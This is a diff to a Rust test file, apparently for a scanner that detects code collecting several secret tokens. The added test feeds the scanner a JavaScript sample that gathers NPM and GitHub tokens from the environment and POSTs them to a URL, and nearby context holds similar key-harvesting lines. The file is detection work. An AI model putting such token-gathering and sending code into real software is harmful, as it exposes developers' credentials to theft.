@@ -140,6 +140,12 @@ fn a_fallback_chain_of_keys_is_one_key_but_a_collection_of_them_is_a_harvest() {
         "requests.get(url, headers={'a': edge, 'b': main, 'c': token})\n",
     ));
     assert!(again.is_empty(), "{again:?}");
+    // Two values put together, one of them a fallback: every name they may carry counts.
+    let fallback_in_payload = js(concat!(
+        "const found = { npm: process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN || '', gh: process.env.GITHUB_TOKEN };\n",
+        "fetch(base + '/i', { method: 'POST', body: JSON.stringify(found) });\n",
+    ));
+    assert_eq!(fallback_in_payload.len(), 1, "{fallback_in_payload:?}");
     // Three keys put together, even as the fallback of something else, are several values.
     let joined = js(concat!(
         "const all = cfg.dump || [process.env.SPEECH_API_KEY, process.env.VOICE_API_KEY, process.env.TEXT_API_KEY].join(',');\n",
